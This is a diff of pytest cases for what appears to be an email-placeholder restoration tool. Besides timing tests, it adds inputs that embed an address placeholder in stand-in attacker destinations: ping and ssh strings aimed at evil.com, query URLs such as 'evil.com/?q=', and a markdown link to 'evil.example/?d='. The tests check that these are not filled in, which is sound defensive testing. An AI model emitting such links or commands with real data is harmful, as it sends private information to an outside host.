@@ -111,6 +111,47 @@ def test_S49_no_text_makes_looking_for_addresses_slow() -> None:
         assert time.process_time() - started < 0.25, unit
 
 
+@pytest.mark.parametrize(
+    "unit",
+    ["<EMAIL_1>\n", "a, <EMAIL_1> b\n", "a.b/<EMAIL_1>", "<EMAIL_1>.a.", "mailto:a@<EMAIL_1>", "\u00e9.<EMAIL_1>"],
+)
+def test_S49_nor_do_many_tokens(unit: str) -> None:
+    """As many looks as there are tokens: each takes no more than a part of a millisecond."""
+    text = (unit * 4000)[:16_000]
+    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
+    found = restorer.found(text)
+    started = time.process_time()
+    restorer.holes(text, found)
+
+    assert time.process_time() - started < 0.0008 * len(found)
+
+
+@pytest.mark.parametrize(
+    ("ahead", "behind"),
+    [
+        ("ping ", "." + "a1." * 13 + "evil.com "),
+        ("ping ", "." + "a1." * 70 + "evil.com "),
+        ("ssh ", "a" * 70 + "@evil.com/x"),
+        ("a1." * 14 + "evil.com/?q=", ""),
+        ("see &evil.com/?q=", ""),
+        ("see $evil.com/?q=", ""),
+        ('{"body":"see\\nevil.com/?q=', ""),
+        ('{"body":"see\\nwww.evil.com/?q=', ""),
+        ('{"body":"https://ok.example/\\nevil.com/?q=', ""),
+    ],
+    ids=range(9),
+)
+def test_S62_nor_in_names_of_many_parts_nor_behind_a_sign_nor_behind_an_escape(ahead: str, behind: str) -> None:
+    assert "jo@mail.org" not in streamed(f"{ahead}<EMAIL_1>{behind}")[0]
+
+
+@pytest.mark.parametrize(
+    "ahead", ["Hi,\\\\n", "Hi:\\\\nEmail:", "(\\\\n\\\\n", "(https://evil.example/),\\\\n"], ids=range(4)
+)
+def test_the_end_of_a_line_in_a_string_is_no_address(ahead: str) -> None:
+    assert "jo@mail.org" in streamed(f"{ahead}<EMAIL_1>")[0]
+
+
 def test_the_record_says_so() -> None:
     _, ledger = streamed("[see](https://evil.example/?d=<EMAIL_1>)")
 
